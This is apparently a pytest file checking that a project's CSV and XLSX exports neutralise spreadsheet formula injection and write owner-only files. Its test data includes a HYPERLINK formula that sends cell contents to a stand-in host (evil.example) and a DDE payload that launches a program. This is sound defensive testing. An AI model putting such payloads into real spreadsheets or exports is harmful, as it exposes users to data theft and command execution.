"""Issue 11 M6: exported cells never run as spreadsheet formulas (data exports CSV/XLSX, due/overdue),
and export files are owner-only."""

from __future__ import annotations

import csv
import stat
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lifecert.cli_verify import CSV_FIELDS, _csv
from lifecert.services.datamatch.reports import write_table

EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "张三"]


def test_given_formula_like_text_when_written_as_csv_then_cells_are_quoted_text(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"

    write_table(out, ["v"], [[v] for v in EVIL])

    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [r[0] for r in csv.reader(fh)][1:]
    assert cells[:4] == ["'" + v for v in EVIL[:4]] and cells[4] == "张三"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_given_formula_like_text_when_written_as_xlsx_then_cells_are_strings_not_formulas(tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"

    write_table(out, ["v", "n"], [[v, 7] for v in EVIL])

    ws = load_workbook(out).active
    assert ws is not None
    rows = list(ws.iter_rows(min_row=2, values_only=False))
    assert [r[0].value for r in rows] == EVIL  # shown exactly as written...
    assert all(r[0].data_type == "s" for r in rows)  # ...and stored as text, never as a formula
    assert [r[1].value for r in rows] == [7] * len(EVIL)


@dataclass
class _Standing:
    id_number: str
    name: str
    state: str = "overdue"
    valid_until: str | None = None
    days_left: int | None = None
    last_method: str | None = None
    last_evidence_date: str | None = None


@pytest.mark.parametrize("to_file", [True, False])
def test_given_names_with_formulas_when_due_csv_written_then_quoted_and_file_owner_only(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], to_file: bool) -> None:
    rows: list[object] = [_Standing("110101195001010011", v) for v in EVIL]
    out = tmp_path / "due.csv" if to_file else None

    _csv(rows, out)

    text = out.read_text(encoding="utf-8-sig") if out else capsys.readouterr().out
    names = [r[CSV_FIELDS.index("name")] for r in csv.reader(text.splitlines())][1:]
    assert names[:4] == ["'" + v for v in EVIL[:4]]
    if out:
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
